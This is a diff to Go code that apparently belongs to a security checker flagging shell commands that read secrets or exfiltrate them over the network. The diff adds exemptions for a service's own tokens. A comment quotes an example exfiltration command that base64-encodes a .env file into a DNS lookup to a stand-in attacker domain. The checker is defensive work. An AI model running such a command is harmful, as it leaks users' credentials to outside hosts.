@@ -612,7 +612,7 @@ func (c *checker) command(u unit) {
 			}
 		}
 	}
-	if credentialPrinter(cmd) {
+	if credentialPrinter(cmd) && !c.tokenOnlyAuthorizes(u) {
 		c.add(SecretRead)
 	}
 	c.privilege(u)
@@ -645,8 +645,8 @@ func (c *checker) command(u unit) {
 	if shell.NeedsNetwork(cmd) {
 		// "dig $(cat .env | base64).attacker.example": a network command
 		// whose words carry a secret.
-		for _, a := range cmd.Args {
-			if !a.Literal && (wordReadsSecret(a, u.dir, c.home) || urlCarriesSecret(a)) {
+		for k, a := range cmd.Args {
+			if !a.Literal && (wordReadsSecret(a, u.dir, c.home) && !ownServiceToken(cmd, k) || urlCarriesSecret(a)) {
 				c.add(NetworkExfiltration)
 			}
 		}
